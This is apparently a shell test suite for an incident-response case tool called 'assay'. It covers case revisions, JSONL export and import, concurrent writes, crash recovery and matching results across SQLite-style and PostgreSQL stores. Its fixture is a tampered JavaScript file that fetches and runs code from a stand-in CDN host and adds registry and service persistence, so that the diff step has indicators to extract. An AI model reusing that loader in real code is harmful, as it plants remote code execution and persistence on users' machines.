#!/bin/sh
# A case from its opening to an export, by the commands that people type, in a file and in a real
# PostgreSQL: both must give the same documents, byte for byte.
. "$(dirname "$0")/lib.sh"
. "$ROOT/tests/cli/postgresql.sh"

ASSAY_AUTHOR='an analyst'
XDG_DATA_HOME=$HERE/data
export ASSAY_AUTHOR XDG_DATA_HOME

# A result of diff, of a change that is inert.
mkdir old new
echo 'exports.version = 1;' >old/index.js
cat >new/index.js <<'JS'
exports.version = 2;
require('http').get('http://cdn.helpdesk-static.example/a/b.js', (r) => {
  let s = '';
  r.on('data', (d) => { s += d; });
  r.on('end', () => require('vm').runInThisContext(s));
});
require('child_process').exec('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v helper /d C:\\Users\\Public\\helper.exe');
require('child_process').exec('sc create UpdSvc binPath= C:\\ProgramData\\upd.exe');
JS
tar -cf old.tar old && tar -cf new.tar new
is 1 diff old.tar new.tar --format json
cp out result.json
new_sha=$(sha256sum new.tar | cut -d' ' -f1)

cat >customers.csv <<'CSV'
id,name,country,industry,size,licence,ip,domain
K1,"Example, Inc.",DE,retail,small,L-1,192.0.2.1;192.0.2.128/25,one.example
K2,"Zwei ""quoted""",FR,,large,L-2,,two.example
k3,Straße,,,,,198.51.100.7,
CSV
printf 'kind,value,stage\nhost,b.example,beaconed\nmd5,0123456789abcdef0123456789abcdef,\n' >more.csv

# story STORE: the same changes, each with its time
story() {
	is 0 case new C1 --store "$1" --title 'tampered agent' --vendor Helpdesk --now 2022-09-30
	is 0 case add C1 result.json --store "$1" --now 2022-10-01 --reason 'the vendor sent both'
	is 0 case add C1 --store "$1" --channel 'cdn https://cdn.vendor.example/agent.exe' \
		--fanout cache --ttl 3600 --now 2022-10-01T01:00:00Z
	channel=$("$ASSAY" case show C1 --store "$1" --format json | grep -o '"c[0-9]*"' | head -1 | tr -d '"')
	is 0 case add C1 --store "$1" --window "r1 $channel" --from 2022-09-26/2022-09-27 \
		--to 2022-09-29T08:00:00.25Z --evidence 'the deploy log' --now 2022-10-02
	is 0 case add C1 --store "$1" --customers customers.csv --population 15000 \
		--what 'sold licences' --indicators more.csv --now 2022-10-03
	is 0 case add C1 --store "$1" --source web --kind nginx --owner vendor --timezone +02:00 \
		--time-meaning end --from 2022-09-20 --to 2022-10-05 --completeness 0.9 \
		--gap 2022-09-27T02:00:00Z/2022-09-27T05:40:00Z --sees K1 --sees k3 --now 2022-10-04
	is 0 case add C1 --store "$1" --report K1 --stage installed --at 2022-09-28 \
		--told-by 'ticket 12' --now 2022-10-05
	is 0 case add C1 --store "$1" --hypothesis 'somebody' --indicator 'host c.example' \
		--indicator 'file_name agent.exe' --now 2022-10-06
	is 0 case add C1 --store "$1" --remove "$(id_of b.example "$1")" --reason 'also in 10.0.8' \
		--now 2022-10-07
}

# id_of VALUE STORE: of an indicator
id_of() {
	"$ASSAY" case show C1 --store "$2" | grep -F "$(echo "$1" | sed 's/[.]/[.]/g')" |
		head -1 | awk '{ print $1 }'
}

story s.db
is 0 case show C1 --store s.db --format json
cp out show.json
valid assay.case.v1 show.json
has out '"revision": 9'
has out "$new_sha"
has out "$(sha256sum new/index.js | cut -d' ' -f1)"
has out '"value": "cdn.helpdesk-static.example"'
has out '"value": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"'
has out '"value": "UpdSvc"'
has out 'Zwei \"quoted\"'
has out '"lo": "2022-09-26T00:00:00Z"'
has out '"hi": "2022-09-27T23:59:59.999999Z"'
has out '2022-09-29T08:00:00.25Z'
lacks out '"b.example"'
is 0 case show C1 --store s.db --revision 8 --format json
has out '"b.example"'
is 0 case show C1 --store s.db
has out 'cdn[.]helpdesk-static[.]example'
has out 'also in 10.0.8'
lacks out 'cdn.helpdesk-static.example'
is 0 case list --store s.db --format json
valid assay.cases.v1 out
is 2 case show C1 --store s.db --revision 10
has err 'revisions 1 to 9'
ok 'nobody else may read the store' [ "$(stat -c %a s.db)" = 600 ]
ok 'at rest there is one file' [ "$(ls s.db*)" = s.db ]

# Saying it again changes nothing.
is 0 case add C1 result.json --store s.db --now 2023-01-01
has err 'nothing to change, revision 9'
is 0 case add C1 --store s.db --customers customers.csv --now 2023-01-01
has err 'nothing to change, revision 9'

# An export, with observations, is the same again from another store.
is 0 case export C1 --store s.db
source=$(sed -n 's/.*"id": "\(i[0-9]*\)", "kind": "host".*/\1/p' out | head -1)
python3 - out "$source" >big.jsonl <<'PY'
import json
import sys

text = open(sys.argv[1]).read().rstrip("\n")
case = json.loads(text)
rows = []
for n in range(300):
    keys = dict.fromkeys("ip user host agent_id account licence user_agent domain".split())
    keys.update(ip=f"192.0.2.{n % 250}", user_agent=f"agent \\ \"{n}\"" if n % 3 else None)
    at = f"2022-09-27T{n % 24:02d}:00:00Z"
    rows.append({"schema": "assay.observation.v1", "source": "web", "file": "ab" * 32,
        "indicator": sys.argv[2], "stage": "delivered", "keys": keys, "release": "r1", "line": n + 1,
        "offset": n * 100, "time_text": at, "first": {"lo": at, "hi": at}, "last": None,
        "bytes": n or None, "status": 200, "complete": "yes", "mode": "pull", "count": n + 1})
print(text.replace('"observations": 0,', '"observations": 300,', 1))
for row in rows:
    print(json.dumps(row, ensure_ascii=False))
PY
is 0 case import big.jsonl --store s2.db
is 0 case export C1 --store s2.db
cp out export.jsonl
ok 'every observation came along' [ "$(wc -l <export.jsonl)" -eq 301 ]
tail -n +2 export.jsonl >observations.jsonl
valid assay.observation.v1 observations.jsonl lines
is 0 case import export.jsonl --store s3.db
is 0 case export C1 --store s3.db
same out export.jsonl
is 2 case import export.jsonl --store s3.db
has err 'there is a case C1 already'
is 2 case show C1 --store s3.db --revision 3
has err 'revisions 9 to 9'
head -200 export.jsonl >cut.jsonl
is 2 case import cut.jsonl --store s4.db
has err 'it is not whole'
is 0 case list --store s4.db
has out 'no case'

# together STORE: eight at once; each has its revision.
together() {
	is 0 case new C9 --store "$1"
	for n in 1 2 3 4 5 6 7 8; do
		"$ASSAY" case add C9 --store "$1" --indicator "host h$n.example" -q || echo bad >>parallel &
	done
	wait
	is 0 case show C9 --store "$1" --format json
	ok 'nobody lost a change' [ ! -e parallel ]
	has out '"revision": 9'
	ok 'all eight are there' [ "$(grep -c '"value": "h[1-8].example"' out)" -eq 8 ]
}
together s5.db

# The user's own store.
is 2 case list
has err 'assay case new makes it'
: >zero.db
is 2 case list --store zero.db
has err 'assay case new makes it'
ok 'asking makes no store of an empty file' [ ! -s zero.db ]
is 0 case new C2 --store zero.db
is 0 case new C2
is 0 case list
has out 'C2'
ok 'it lies where data lies' [ -f data/assay/store.db ]

# PostgreSQL gives the same bytes.
pg_start || fail "PostgreSQL does not start: $(tail -3 pg.log)"
story "$PG_URL"
is 0 case show C1 --store "$PG_URL" --format json
same out show.json
is 0 case show C1 --store s.db --revision 5 --format json
cp out show5.json
is 0 case show C1 --store "$PG_URL" --revision 5 --format json
same out show5.json
is 0 case add C1 result.json --store "$PG_URL" --now 2023-01-01
has err 'nothing to change, revision 9'
is 2 case import export.jsonl --store "$PG_URL"
has err 'there is a case C1 already'
sed '1s/"id": "C1"/"id": "C3"/' export.jsonl >export3.jsonl
is 0 case import export3.jsonl --store "$PG_URL"
is 0 case export C3 --store "$PG_URL"
same out export3.jsonl
together "$PG_URL"
# The order does not depend on the language of the server.
ok 'text compares byte by byte' [ "$(pg_sql "SELECT string_agg(id, ' ' ORDER BY id) FROM assay_customer \
	WHERE case_id = 'C1' AND revision_to IS NULL")" = 'K1 K2 k3' ]

# The server dies as if the machine had: what was acknowledged is there.
is 0 case add C3 --store "$PG_URL" --title 'before the end' --now 2023-01-01
pg_stop immediate
is 2 case show C3 --store "$PG_URL"
pg_up || fail 'PostgreSQL does not start again'
is 0 case show C3 --store "$PG_URL"
has out 'before the end'
# So when the client is killed: what it said to last does, and one more at most.
i=0
while [ $i -lt 12 ]; do
	before=$(pg_sql "SELECT revision FROM assay_case WHERE id = 'C3'")
	"$ASSAY" case add C3 --store "$PG_URL" --title "change $i" --customers customers.csv 2>ack &
	sleep "0.0$((i * 4 / 10))$((i * 4 % 10))"
	kill -9 $! 2>/dev/null
	wait $! 2>/dev/null
	# The server may still be finishing what the killed client had sent: it is asked when it has.
	tries=0
	until [ "$(pg_sql "SELECT count(*) FROM pg_stat_activity WHERE backend_type = 'client backend'
		AND pid <> pg_backend_pid()")" = 0 ] || [ $tries -ge 100 ]; do
		tries=$((tries + 1))
		sleep 0.1
	done
	said=$(sed -n 's/.*revision \([0-9]*\),.*/\1/p' ack)
	now=$(pg_sql "SELECT revision FROM assay_case WHERE id = 'C3'")
	ok "killed after ${said:-nothing}: $before, then $now" \
		[ "$now" -ge "${said:-$before}" ] && [ "$now" -le $((before + 1)) ]
	ok 'each revision has its row' [ "$now" = "$(pg_sql "SELECT max(number) FROM assay_revision \
		WHERE case_id = 'C3'")" ]
	i=$((i + 1))
done
is 0 case show C3 --store "$PG_URL"
is 2 case list --store "postgresql:///none?host=$PG_FOLDER&user=assay"
has err 'does not exist'
is 2 case list --store "postgresql://assay:secret@127.0.0.1:1/none?connect_timeout=2"
lacks err 'secret'

# What is opened for comparing has nothing to do with stores.
is 0 diff old.tar old.tar
if command -v strace >/dev/null && strace -f -o trace -e trace=openat "$ASSAY" diff old.tar old.tar \
	>/dev/null 2>&1; then
	lacks trace libsqlite3
	lacks trace libpq
fi


done_
